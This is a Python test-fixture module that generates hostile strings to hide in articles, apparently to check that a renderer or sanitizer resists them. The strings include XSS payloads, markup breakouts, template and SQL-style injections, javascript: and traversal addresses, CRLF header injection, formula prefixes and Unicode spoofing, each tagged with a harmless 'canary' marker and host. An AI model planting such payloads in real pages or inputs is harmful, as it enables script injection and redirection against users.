"""Strings that somebody may hide in an article to run a script, to lead away or to turn the page round."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CANARY = "canary"

_BREAKS = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</script>",
    "-->",
    "</style>",
    "]]>",
    '" ',
    "\\",
    "&quot;>",
    "&#34;>",
)
_DEEDS = (
    "<script>canary()</script>", "<script src=//canary.example></script>", "<img src=x onerror=canary()>",
    "<svg onload=canary()>", "<svg><script>canary()</script></svg>", "<iframe srcdoc='<script>canary()</script>'>",
    "<math><mtext><img src=x onerror=canary()>", "<a href=javascript:canary()>canary</a>",
    "<form action=//canary.example><button>canary", "<base href=//canary.example/>",
    "<meta http-equiv=refresh content='0;url=//canary.example'>", "<link rel=stylesheet href=//canary.example>",
    "<style>@import '//canary.example'</style>", "<object data=//canary.example>", "<input autofocus onfocus=canary()>",
    "<details open ontoggle=canary()>", "<x onclick=canary() style='position:fixed'>canary</x>", "<plaintext>canary",
    "<!--canary", "<template><script>canary()</script></template>", "<noscript><p title='</noscript><img src=x>'>canary",  # noqa: E501
)  # fmt: skip
_ATTRIBUTES = (
    '" onmouseover="canary()',
    "' onfocus='canary()' autofocus='",
    "` onclick=`canary()",
    '"style="x:canary',
    "\" srcdoc='canary'",
)
_TEMPLATES = (
    "{{ canary }}",
    "{% include 'canary' %}",
    "${canary()}",
    "{{''.__class__.__mro__}} canary",
    "#{canary}",
    "<%= canary %>",
)
_ADDRESSES = (
    "javascript:canary()", "JaVaScRiPt:canary()", "java\tscript:canary()", "\x01javascript:canary()",
    "data:text/html,<script>canary()</script>", "vbscript:canary()", "//canary.example/x", "\\\\canary.example\\x",
    "/\\canary.example", "https:canary.example", "https://user@canary.example/", "http://canary.example\\@x.example/",
    "https://canary.example:99999/", "http://[canary", "file:///canary", "blob:canary", "https://x.example/\u202ecanary",
)  # fmt: skip
_LETTERS = (
    "canary\u202egnp.exe", "\u2066canary\u2069", "canary\u200b\u200c\u200d", "canary ca\u0300\u0301\u0302nary", "canary\x00end",  # noqa: E501
    "canary\x1b[31mred", "ᴄanary canary", "canary\ufeff", "canary \U000e0041\U000e0042", "\u05e9\u05dc canary \u05d5\u05dd",  # noqa: E501
    "canary\r\nset-cookie: a=b", "canary\u2028\u2029", "canary \ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16"),  # noqa: E501
    "canary" + "a" * 3_000, "=canary()", "+canary", "@canary", "-canary",
)  # fmt: skip
_PATHS = (
    "../../canary",
    "..\\..\\canary",
    "/etc/canary",
    "C:\\canary",
    "canary/.json",
    ".canary",
    "%2e%2e/canary",
    "canary?a=b#c",
)
_QUERIES = (
    'canary" OR "a',
    "canary' OR 1=1 --",
    "canary*",
    "NEAR(canary x)",
    "text:canary",
    "canary AND",
    "^canary",
    "(canary",
)


def strings() -> Iterator[str]:
    """Every string of every class; each holds the canary's name."""
    for start, deed in product(_BREAKS, _DEEDS):
        yield start + deed
    yield from (*_ATTRIBUTES, *_TEMPLATES, *_ADDRESSES, *_LETTERS, *_PATHS, *_QUERIES)
